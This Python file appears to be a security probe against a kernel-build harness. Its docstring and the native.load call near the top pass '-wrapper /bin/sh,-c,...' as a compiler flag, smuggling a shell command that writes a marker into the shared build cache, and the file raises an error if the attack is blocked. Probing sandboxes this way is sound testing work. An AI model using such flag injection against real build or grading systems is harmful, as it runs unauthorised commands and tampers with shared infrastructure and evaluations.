"""Passes `-wrapper` to the compiler so that a shell command of its choosing runs where the build runs,
writing a file into the shared build cache."""

import os

import torch
import torch.nn as nn

from kforge_worker import native

RELU = r"""
#include <cstdint>
extern "C" void relu(const float* x, float* y, int64_t n) {
    for (int64_t i = 0; i < n; ++i) y[i] = x[i] > 0.f ? x[i] : 0.f;
}
"""
_mark = os.path.join(os.environ.get("KFORGE_BUILD_CACHE", ""), "native", "pwned-by-wrapper")
try:
    native.load("int unused;\n", name="wrapped", cflags=["-wrapper", f"/bin/sh,-c,echo pwned > {_mark}"])
    _log = ""
except Exception as e:  # CompileError, or whatever a half-done build raises
    _log = getattr(e, "log", "") or str(e)
if not os.path.exists(_mark):
    raise RuntimeError("attack blocked: the wrapper wrote nothing into the cache: " + _log[-300:])
_lib = native.load(RELU, {"relu": [native.PTR, native.PTR, native.I64]})


class ModelNew(nn.Module):
    def forward(self, x):
        x = x.contiguous()
        out = torch.empty_like(x)
        _lib.relu(native.ptr(x), native.ptr(out), x.numel())
        return out
